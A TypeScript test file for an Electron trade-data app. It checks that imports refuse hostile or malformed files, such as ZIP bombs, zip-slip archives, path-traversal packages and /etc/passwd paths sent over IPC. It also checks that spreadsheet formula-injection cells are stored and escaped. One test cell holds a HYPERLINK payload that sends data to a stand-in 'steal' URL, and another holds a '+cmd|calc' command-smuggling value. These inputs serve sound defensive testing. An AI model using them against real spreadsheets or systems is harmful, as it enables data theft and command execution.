/**
 * Bad input. Every failure names the file and, where it can, the line, the column and the value, in
 * words; and after every failure the library is exactly as before: same manifest, no staging leftovers,
 * the existing dataset still answers.
 */
import { appendFileSync, existsSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { dispatch } from '../../../../electron/dispatch'
import { createHandlers } from '../../../../electron/handlers'
import { csvCell, toCsv } from '../../../../electron/shared/csv'
import type { AppError } from '../../../../electron/shared/errors'
import { inChinese } from '../../../support/refusalWording'
import { B, fixture, LEAKS, openTestServices, zipOf, type TestServices } from './helpers'

let t: TestServices
/** Every refusal these tests saw, in English and as the page shows it in Chinese, scanned at the end. */
const refusals: string[] = []
/** The refusals that carried no catalogued message, so a Chinese page shows them in English. */
const uncatalogued: string[] = []
let before = ''
let existing = ''

beforeAll(async () => {
  t = await openTestServices()
  existing = (await t.importPath(fixture('comtrade-plus-china-2024.csv'))).dataset!.id
})
afterAll(() => t?.close())
beforeEach(() => {
  before = t.manifest()
  t.hooks.outputPath = undefined
  t.hooks.beforeCommit = undefined
  t.progress.length = 0
})

const write = (name: string, content: string | Buffer) => {
  const path = join(t.userDataDir, name)
  writeFileSync(path, content)
  return path
}

/** The import fails with this message, and nothing in the library changed. */
async function refused(
  path: string,
  message: string | RegExp,
  mapping?: Parameters<TestServices['importPath']>[1],
) {
  let error: unknown
  try {
    await t.importPath(path, mapping)
  } catch (e) {
    error = e
  }
  expect(error, 'the import should have failed').toBeInstanceOf(Error)
  const text = (error as Error).message
  const chinese = inChinese((error as AppError).said)
  refusals.push(text, ...(chinese === null ? [] : [chinese]))
  if (chinese === null) uncatalogued.push(text)
  if (typeof message === 'string') expect(text).toBe(message)
  else expect(text).toMatch(message)
  await nothingLost()
  return text
}

async function nothingLost() {
  expect(t.manifest()).toBe(before)
  expect(t.stagingLeft()).toEqual([])
  const b = await t.services.imports.breakdown({
    dataset: existing,
    reporter: 'china',
    flow: 'exports',
    by: 'partner',
    top: 10,
  })
  expect(b.world).toBe(400 * B)
}

const LEGACY =
  'Classification,Year,Period,Period Desc.,Aggregate Level,Is Leaf Code,Trade Flow Code,Trade Flow,Reporter Code,Reporter,Reporter ISO,Partner Code,Partner,Partner ISO,Commodity Code,Commodity,Qty Unit Code,Qty Unit,Qty,Netweight (kg),Trade Value (US$),Flag'
const legacyRow = (i: number, value: string) =>
  `HS,2019,2019,2019,0,0,2,Export,156,China,CHN,${4 + (i % 50)},X,,TOTAL,All Commodities,1,No Quantity,,,${value},0`

describe('hostile files', () => {
  it('an empty file', async () => {
    await refused(write('empty.csv', ''), 'empty.csv: is empty.')
  })

  it('a header and no data', async () => {
    await refused(
      write('header-only.csv', `${LEGACY}\n`),
      'header-only.csv: has a header row but no data rows.',
    )
  })

  it('binary garbage', async () => {
    const bytes = Buffer.alloc(4096)
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) % 256
    await refused(write('garbage.csv', bytes), /^garbage\.csv: is not a text table: it contains binary data/)
  })

  it('a single 50 MB line', async () => {
    await refused(
      write('one-line.csv', Buffer.alloc(50 * 1024 * 1024, 'a,')),
      'one-line.csv: line 1 is longer than 1 MB with no line break: this is not a table the app can read.',
    )
  })

  it('ragged rows: the line and the counts', async () => {
    const lines = [
      LEGACY,
      legacyRow(1, '100'),
      legacyRow(2, '200'),
      legacyRow(3, '300').replace(',0\n', '').replace(/,0$/, ''),
    ]
    await refused(
      write('ragged.csv', `${lines.join('\n')}\n`),
      'ragged.csv: line 4: the row has 21 values but the header row names 22 columns. Rows must all have the same number of values.',
    )
  })

  it('a duplicate column name', async () => {
    await refused(
      write('dup.csv', 'date,Value,Value\n2024-01,1,2\n'),
      "dup.csv: the header row names the column 'Value' twice (columns 2 and 3). Rename one of them and try again.",
    )
  })

  it('a column without a name', async () => {
    await refused(
      write('noname.csv', 'date,,value\n2024-01,x,1\n'),
      'noname.csv: column 2 has no name in the header row. Give every column a name and try again.',
    )
  })

  it("mixed types: line 1 042: 'n/a' is not a number in column Trade Value (US$)", async () => {
    const rows = Array.from({ length: 1100 }, (_, i) =>
      legacyRow(i, i + 2 === 1042 ? 'n/a' : String(1000 + i)),
    )
    await refused(
      write('comtrade-bad.csv', `${[LEGACY, ...rows].join('\n')}\n`),
      "comtrade-bad.csv: line 1 042: 'n/a' is not a number in column Trade Value (US$).",
    )
  })

  it('a cell that is not a period: found on its line', async () => {
    const body = [
      'date,series,value',
      '2024-01,exports,1',
      '2024-02,exports,2',
      '2024-03,exports,3',
      'abc,exports,4',
      '2024-05,exports,5',
    ]
    await refused(
      write('bad-period.csv', `${body.join('\n')}\n`),
      'bad-period.csv: line 5: column date: "abc" is not a period like 2025-11, 2025-Q2, 2025 or 2025-01..2025-02. The app reads years (2024), quarters (2024Q1) and months (2024-03, 202403, 2024M03, March 2024, Mar-2024).',
    )
  })

  it('an unknown encoding', async () => {
    const bytes = Buffer.from('date,partner,value\n2024-01,x\u0081,1\n2024-02,\u008d,2\n', 'latin1')
    await refused(write('strange.csv', bytes), /^strange\.csv: uses a text encoding the app cannot recognise/)
  })

  it('a damaged ZIP archive or workbook', async () => {
    await refused(
      write('book.xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(100, 1)])),
      'book.xlsx: is a ZIP archive that cannot be read (it is damaged or incomplete).',
    )
  })

  it('a ZIP bomb: a member that would unpack to a thousand times its packed size', async () => {
    const zip = zipOf([{ name: 'data.csv', data: Buffer.alloc(20 * 1024 * 1024, 0x30) }])
    await refused(
      write('bomb.zip', zip),
      /^bomb\.zip: is a ZIP archive whose member data\.csv would unpack to \d+ times its packed size: that is a ZIP bomb/,
    )
  })

  it('a ZIP member whose name climbs out of the archive ("zip slip")', async () => {
    const zip = zipOf([{ name: '../../evil.csv', data: Buffer.from('date,value\n2024-01,1\n') }])
    await refused(
      write('slip.zip', zip),
      'slip.zip: is a ZIP archive with a member whose name points outside the archive (an absolute path or ".."), so it is not opened.',
    )
  })

  it('a ZIP archive whose data file is itself an archive', async () => {
    const inner = zipOf([{ name: 'data.csv', data: Buffer.from('date,value\n2024-01,1\n') }])
    await refused(
      write('nested.zip', zipOf([{ name: 'data.csv', data: inner }])),
      'nested.zip: is a ZIP archive inside the archive: unpack the outer archive first.',
    )
  })

  it('an Excel 97–2003 workbook', async () => {
    const bytes = Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(512),
    ])
    await refused(write('old.xls', bytes), /^old\.xls: is an Excel 97–2003 workbook \(\.xls\)/)
  })

  it('more than fifty value columns are read, not refused', async () => {
    const header = ['date', ...Array.from({ length: 80 }, (_, i) => `v${i}`)].join(',')
    const row = ['2024-01', ...Array.from({ length: 80 }, (_, i) => String(i))].join(',')
    const path = write('wide.csv', `${header}\n${row}\n`)
    const granted = await t.services.imports.grant(path, 'dialog')
    const inspection = await t.services.imports.inspect(granted.fileId)
    expect(inspection.guess?.values).toHaveLength(80)
    const outcome = await t.services.imports.importFile(granted.fileId, inspection.guess!)
    expect(outcome.dataset?.rows).toBe(80)
  })

  it('a data package that points outside its folder', async () => {
    const dir = join(t.userDataDir, 'pkg')
    const { mkdirSync } = await import('node:fs')
    mkdirSync(dir, { recursive: true })
    writeFileSync(join(t.userDataDir, 'secret.csv'), 't,i,j,k,v,q\n2022,156,842,010101,1,1\n')
    writeFileSync(
      join(dir, 'datapackage.json'),
      JSON.stringify({ name: 'x', resources: [{ name: 'data', path: '../secret.csv' }] }),
    )
    await refused(
      join(dir, 'datapackage.json'),
      /^datapackage\.json: resource data points outside the package folder/,
    )
  })

  it('a file deleted during the import', async () => {
    const path = write('deleted.csv', readFileSync(fixture('comtrade-plus-china-2024.csv')))
    const unsubscribe = onPhase('normalising', () => unlinkSync(path))
    await refused(path, /^deleted\.csv: .*(deleted or moved)/)
    unsubscribe()
  })

  it('a file changed during the import', async () => {
    const path = write('changing.csv', readFileSync(fixture('comtrade-plus-china-2024.csv')))
    const unsubscribe = onPhase('normalising', () =>
      appendFileSync(
        path,
        readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[1] + '\n',
      ),
    )
    await refused(
      path,
      'changing.csv: changed while it was being imported (another program wrote to it). Nothing was saved; open it again when it is complete.',
    )
    unsubscribe()
  })

  it.runIf(existsSync('/dev/full'))('a full disk while writing', async () => {
    t.hooks.outputPath = (name, standard) => (name === 'facts.parquet' ? '/dev/full' : standard)
    await refused(
      write('full.csv', readFileSync(fixture('comtrade-legacy-2019.csv'))),
      'full.csv: the disk is full, so the import was stopped and nothing was saved. Free some space and try again.',
    )
  })

  it('formula-injection cells are stored as text, never evaluated, and escaped in any CSV the app writes', async () => {
    const hyperlink = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")'
    const body = [
      'date,partner,value',
      `2024-01,"${hyperlink.replaceAll('"', '""')}",5`,
      '2024-01,+cmd|calc,3',
      '2024-01,@SUM(1+1),2',
    ]
    const path = write('formulas.csv', `${body.join('\n')}\n`)
    const granted = await t.services.imports.grant(path, 'dialog')
    const inspected = await t.services.imports.inspect(granted.fileId)
    expect(inspected.preview[0]?.[1]).toBe(hyperlink)
    const d = (await t.services.imports.importFile(granted.fileId, { ...inspected.guess!, partner: 1 }))
      .dataset!
    const b = await t.services.imports.breakdown({
      dataset: d.id,
      reporter: 'china',
      flow: 'value',
      by: 'partner',
      top: 10,
    })
    expect(b.rows.map((r) => r.label)).toEqual([hyperlink, '+cmd|calc', '@SUM(1+1)'])
    const csv = toCsv(b.rows.map((r) => [r.label, r.value]))
    expect(csv.split('\r\n').slice(0, 3)).toEqual([
      `"'${hyperlink.replaceAll('"', '""')}",5`,
      "'+cmd|calc,3",
      "'@SUM(1+1),2",
    ])
    expect(csvCell('-12.5')).toBe('-12.5')
  })
})

describe('cancel', () => {
  it('Cancel during the read stops DuckDB and leaves no trace', async () => {
    // A file large enough to take a moment (about 30 MB), written for this test only.
    const header = readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[0]
    const row = readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[1]
    const path = write('big.csv', `${header}\n${`${row}\n`.repeat(90_000)}`)
    const granted = await t.services.imports.grant(path, 'dialog')
    const unsubscribe = onPhase('normalising', () =>
      setTimeout(() => t.services.imports.cancel(granted.fileId), 5),
    )
    const outcome = await t.services.imports.importFile(granted.fileId)
    unsubscribe()
    expect(outcome).toEqual({ status: 'cancelled', dataset: null, warnings: [] })
    expect(t.progress.at(-1)).toMatchObject({ phase: 'cancelled', file: 'big.csv' })
    await nothingLost()
  })

  it('Cancel just before the commit leaves no trace either', async () => {
    const granted = await t.services.imports.grant(
      write('late.csv', readFileSync(fixture('baci-hs17-2022.csv'))),
      'dialog',
    )
    t.hooks.beforeCommit = async () => {
      t.services.imports.cancel(granted.fileId)
    }
    expect(await t.services.imports.importFile(granted.fileId)).toEqual({
      status: 'cancelled',
      dataset: null,
      warnings: [],
    })
    await nothingLost()
  })
})

describe('paths sent over IPC are refused', () => {
  it.each([
    ['a path', { fileId: '/etc/passwd' }, 'INVALID_ARGUMENT'],
    ['a relative path', { fileId: '../../secret.csv' }, 'INVALID_ARGUMENT'],
    ['a file: URL', { fileId: 'file:///etc/passwd' }, 'INVALID_ARGUMENT'],
    ['a path field', { path: '/etc/passwd' }, 'INVALID_ARGUMENT'],
    [
      'an id plus a path',
      { fileId: 'f-0123456789abcdef0123456789abcdef', path: '/etc/passwd' },
      'INVALID_ARGUMENT',
    ],
    ['a forged id', { fileId: 'f-0123456789abcdef0123456789abcdef' }, 'NOT_FOUND'],
  ])('%s', async (_what, args, code) => {
    const handlers = createHandlers(t.services)
    for (const method of ['inspectImport', 'importFile', 'cancelImport'] as const) {
      const answer = await dispatch(handlers, method, args)
      expect(answer).toMatchObject({ ok: false, error: { code } })
      if (!answer.ok && code === 'NOT_FOUND')
        expect(answer.error.message).toContain('only opens files you chose')
    }
    await nothingLost()
  })

  it('every import refusal above reads in Chinese too', () => {
    expect(uncatalogued).toEqual([])
  })

  it('no refusal above names a path inside the user-data folder or repeats a library’s wording', () => {
    expect(refusals.length).toBeGreaterThan(15)
    for (const message of refusals) {
      expect(message, message).not.toContain(t.userDataDir)
      expect(message, message).not.toMatch(LEAKS)
    }
  })

  it('grant() itself refuses what is not an existing regular file', async () => {
    await expect(t.services.imports.grant('relative/path.csv', 'drop')).rejects.toThrow(
      'not a file the app can open',
    )
    await expect(t.services.imports.grant(t.userDataDir, 'drop')).rejects.toThrow('is not a regular file')
    await expect(t.services.imports.grant(join(t.userDataDir, 'nope.csv'), 'drop')).rejects.toThrow(
      'does not exist',
    )
  })
})

function onPhase(phase: string, action: () => void): () => void {
  let done = false
  const original = t.progress.push.bind(t.progress)
  t.progress.push = (...items) => {
    for (const item of items) {
      if (!done && item.phase === phase) {
        done = true
        action()
      }
    }
    return original(...items)
  }
  return () => {
    t.progress.push = original
  }
}
